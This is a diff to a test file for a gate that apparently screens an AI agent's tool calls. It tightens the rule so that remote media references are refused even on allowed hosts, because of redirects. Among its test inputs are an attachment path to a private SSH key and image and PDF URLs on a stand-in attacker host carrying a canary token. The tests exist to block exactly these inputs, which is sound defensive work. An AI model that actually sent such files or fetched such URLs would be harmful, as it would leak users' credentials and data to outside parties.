@@ -178,7 +178,8 @@ describe("OpenClaw gate: tool classes", () => {
 
   it("message passes text; an attachment or a local path is refused", async () => {
     const { g } = setup();
-    expect(await call(g, "message", { action: "send", to: "me", message: "done /help" })).toBeUndefined();
+    // No recipient: a reply in the current conversation (recipients: openclaw-gate-recipients.test.ts).
+    expect(await call(g, "message", { action: "send", message: "done /help" })).toBeUndefined();
     for (const params of [
       { action: "send", message: "x", media: "/home/u/.ssh/id_rsa" },
       { action: "send", message: "x", filePath: "notes.txt" },
@@ -205,11 +206,10 @@ describe("OpenClaw gate: media tools open files like read", () => {
     expect(await call(g, "view_image", { path: "cat.png" })).toBeUndefined();
     expect(await call(g, "view_image", { path: path.join(ws, "cat.png") })).toBeUndefined();
     expect(await call(g, "view_image", { path: " @ MEDIA:cat.png" })).toBeUndefined();
-    // A remote reference is fetched by OpenClaw: judged like web_fetch (curl -s URL), hosts of the policy only.
-    expect(
-      await call(g, "view_image", { path: "https://raw.githubusercontent.com/o/r/main/a.png" }),
-    ).toBeUndefined();
+    // A remote reference is fetched by OpenClaw, which follows up to 3 redirects from it (no
+    // setting turns that off): refused whatever the host, an allowed one included (G6).
     for (const [tool, params] of [
+      ["view_image", { path: "https://raw.githubusercontent.com/o/r/main/a.png" }],
       ["view_image", { path: "https://example.com/a.png?k=SW-CANARY" }],
       ["image", { images: ["cat.png", " https://attacker.example/i.png?k=SW-CANARY"] }],
       ["pdf", { pdf: "@https://attacker.example/d.pdf" }],
@@ -217,7 +217,7 @@ describe("OpenClaw gate: media tools open files like read", () => {
     ] as const) {
       const r = await call(g, tool, params);
       expect(r?.block, tool).toBe(true);
-      expect(r?.blockReason, tool).toContain("judged like `curl -s URL`");
+      expect(r?.blockReason, tool).toContain("follows up to 3 redirects");
     }
     writeFileSync(path.join(home, "notes.png"), "png");
     expect(await call(g, "view_image", { path: "data:image/png;base64,aGk=" })).toBeUndefined();
